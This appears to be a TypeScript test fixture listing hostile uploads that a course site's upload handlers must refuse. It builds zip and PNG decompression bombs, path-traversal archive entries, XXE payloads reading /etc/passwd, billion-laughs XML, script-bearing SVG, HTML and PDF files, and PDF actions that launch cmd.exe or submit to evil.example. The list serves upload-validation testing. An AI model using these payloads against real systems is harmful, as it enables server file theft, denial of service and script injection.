import { deflateSync } from 'node:zlib'
import { zipOf } from '../people/archives'
import { p, wordFile } from '../courses/word-file'

export type Hostile = readonly [what: string, name: string, bytes: () => Buffer | string]
const spaces = (megabytes: number) => Buffer.alloc(megabytes * 1_048_576, 32)
const word = { name: 'word/document.xml', text: '<w:document/>' }
const sheet = { name: 'xl/workbook.xml', text: '<workbook/>' }
const LAUGHS = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from('bcdefghij', (letter, n) => `<!ENTITY ${letter} "${`&${'abcdefghi'[n]};`.repeat(10)}">`).join('')}]>`
const SECRET = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
const utf16 = (text: string) => Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(text, 'utf16le')])
const svg = (inside: string, more = '') => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" ${more}>${inside}</svg>`
const pdf = (inside: string) => `%PDF-1.7\n1 0 obj<<${inside}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`
const OLE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4096)])

/** A picture of so many pixels a side, all of one colour: a few kilobytes that a reader may make gigabytes of. */
function hugePng(side: number) {
  const chunk = (kind: string, data: Buffer) => {
    const bytes = Buffer.concat([Buffer.from(kind, 'latin1'), data])
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
    length.writeUInt32BE(data.length)
    sum.writeUInt32BE(crc(bytes))
    return Buffer.concat([length, bytes, sum])
  }
  const head = Buffer.alloc(13)
  head.writeUInt32BE(side, 0)
  head.writeUInt32BE(side, 4)
  head.set([1, 0, 0, 0, 0], 8)
  const rows = deflateSync(Buffer.alloc(Math.min(side * 400, 20_000_000)))
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))])
}
function crc(bytes: Buffer) {
  let sum = ~0
  for (const byte of bytes) {
    sum ^= byte
    for (let bit = 0; bit < 8; bit++) sum = sum & 1 ? (sum >>> 1) ^ 0xedb88320 : sum >>> 1
  }
  return ~sum >>> 0
}

/** Files that no door of the site may take, whatever they are called. */
export const hostile: readonly Hostile[] = [
  ['a bomb in a workbook', 'list.xlsx', () => zipOf([sheet, { name: 'xl/worksheets/sheet1.xml', text: spaces(300) }])],
  ['a bomb in a Word file', 'lesson.docx', () => zipOf([{ name: '[Content_Types].xml', text: '<Types/>' }, { ...word, text: spaces(300) }])],
  ['a bomb in a course', 'course.zip', () => zipOf([{ name: 'course.json', text: spaces(300) }])],
  ['a bomb in a picture that nobody would read', 'list.xlsx', () => zipOf([sheet, { name: 'xl/media/a.png', text: spaces(300) }])],
  ['a bomb whose directory claims to be small', 'lesson.docx', () => zipOf([{ ...word, text: spaces(100), claims: 900 }])],
  ['bombs in bombs', 'course.zip', () => zipOf([{ name: 'course.json', text: '{}' }, ...Array.from({ length: 9 }, (_, n) => ({ name: `media/${n}.zip`, text: zipOf([{ name: 'x', text: spaces(40) }]) }))])],
  ['forty thousand entries', 'course.zip', () => zipOf(Array.from({ length: 40_000 }, (_, n) => ({ name: `${n}`, text: '' })))],
  ['a directory that counts more than there is', 'list.xlsx', () => zipOf([sheet], { count: 60_000 })],
  ['a path that climbs out', 'course.zip', () => zipOf([{ name: '../../../etc/cron.d/x', text: 'x' }])],
  ['an absolute path', 'lesson.docx', () => zipOf([word, { name: '/etc/passwd', text: 'x' }])],
  ['a path with a drive', 'course.zip', () => zipOf([{ name: 'C:\\windows\\x.exe', text: 'MZ' }])],
  ['one entry twice', 'lesson.docx', () => zipOf([word, word])],
  ['an encrypted entry', 'list.xlsx', () => zipOf([{ ...sheet, flags: 1 }])],
  ['a zip cut in half', 'course.zip', () => zipOf([{ name: 'course.json', text: '{}' }]).subarray(0, 40)],
  ['the first bytes of a zip', 'list.xlsx', () => 'PK\x03\x04'],
  ['macros in a workbook', 'list.xlsm', () => zipOf([sheet, { name: 'xl/vbaProject.bin', text: 'x' }])],
  ['macros in a Word file', 'lesson.docm', () => wordFile(p('متن'), { parts: [{ name: 'word/vbaProject.bin', text: 'x' }] })],
  ['macros of a sheet', 'list.xlsx', () => zipOf([sheet, { name: 'xl/macrosheets/sheet1.xml', text: '<x/>' }])],
  ['a program in a zip', 'course.zip', () => zipOf([{ name: 'setup.exe', text: 'MZ\x90\0' }])],
  ['a document type in a Word file', 'lesson.docx', () => zipOf([{ ...word, text: `${SECRET}<w:document>&f;</w:document>` }])],
  ['a billion laughs in a workbook', 'list.xlsx', () => zipOf([{ ...sheet, text: `${LAUGHS}<workbook>&j;</workbook>` }])],
  ['a billion laughs as questions', 'quiz.xml', () => `<?xml version="1.0"?>${LAUGHS}<quiz>&j;</quiz>`],
  ['questions that read a file of the server', 'quiz.xml', () => `<?xml version="1.0"?>${SECRET}<quiz><question type="essay"><questiontext><text>&f;</text></questiontext></question></quiz>`],
  ['a document type hidden in UTF-16', 'quiz.xml', () => utf16(`<?xml version="1.0" encoding="UTF-16"?>${SECRET}<quiz>&f;</quiz>`)],
  ['fifty megabytes of one question', 'quiz.xml', () => Buffer.concat([Buffer.from('<?xml version="1.0"?><quiz><question type="essay"><questiontext><text>'), spaces(50), Buffer.from('</text></questiontext></question></quiz>')])],
  ['XML in UTF-7', 'quiz.xml', () => '<?xml version="1.0" encoding="UTF-7"?>+ADw-quiz+AD4-'],
  ['a drawing with a script', 'picture.svg', () => svg('<script>alert(1)</script>')],
  ['a drawing that acts as it loads', 'picture.svg', () => svg('<rect/>', 'onload="alert(1)"')],
  ['a drawing that asks another server', 'picture.svg', () => svg('<image xlink:href="http://evil.example/x.png"/>')],
  ['a drawing with a page in it', 'picture.svg', () => svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"/></body></foreignObject>')],
  ['a drawing with a document type', 'picture.svg', () => `${SECRET}${svg('<text>&f;</text>')}`],
  ['a drawing that leads to a script', 'picture.svg', () => svg('<a xlink:href="java&#10;script:alert(1)"><rect/></a>')],
  ['a drawing called a photo', 'photo.png', () => svg('<script>alert(1)</script>')],
  ['a page called a photo', 'photo.jpg', () => '<!doctype html><script>alert(1)</script>'],
  ['a page called a paper', 'paper.pdf', () => '<html><body onload="alert(1)"></body></html>'],
  ['a page called a lesson', 'lesson.md', () => '<!doctype html><html><script>alert(1)</script></html>'],
  ['a page called a film', 'film.mp4', () => '<html><script>alert(1)</script></html>'],
  ['a picture of 64,000 pixels a side', 'photo.png', () => hugePng(64_000)],
  ['a picture of a billion pixels a side', 'photo.png', () => hugePng(1_000_000_000)],
  ['a picture that breaks off', 'photo.png', () => hugePng(800).subarray(0, 60)],
  ['a GIF that is a program', 'photo.gif', () => 'GIF89a/*\x01\x00*/=1;alert(1)//'],
  ['a PDF with a script', 'paper.pdf', () => pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')],
  ['a PDF with a hidden script', 'paper.pdf', () => pdf('/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>')],
  ['a PDF that starts a program', 'paper.pdf', () => pdf('/OpenAction<</S/Launch/F(cmd.exe)>>')],
  ['a PDF with a file in it', 'paper.pdf', () => pdf('/Names<</EmbeddedFiles 2 0 R>>')],
  ['a PDF that sends a form', 'paper.pdf', () => pdf('/AA<</O<</S/SubmitForm/F(http://evil.example)>>>>')],
  ['a PDF without an end', 'paper.pdf', () => '%PDF-1.7\n1 0 obj<<'],
  ['a program called a film', 'film.mp4', () => Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), Buffer.alloc(2000)])],
  ['a program of Linux', 'recording.mp3', () => Buffer.concat([Buffer.from('\x7fELF\x02\x01', 'latin1'), Buffer.alloc(2000)])],
  ['an old Word file', 'lesson.doc', () => OLE],
  ['an old workbook', 'list.xls', () => OLE],
  ['nothing at all', 'empty.docx', () => ''],
  ['zeros', 'list.csv', () => Buffer.alloc(500_000)],
  ['noise', 'photo.webp', () => Buffer.from(Array.from({ length: 50_000 }, (_, n) => (n * 7919 + (n >> 3) * 104_729) & 255))],
  ['a database', 'list.csv', () => Buffer.concat([Buffer.from('SQLite format 3\0'), Buffer.alloc(4096)])],
]
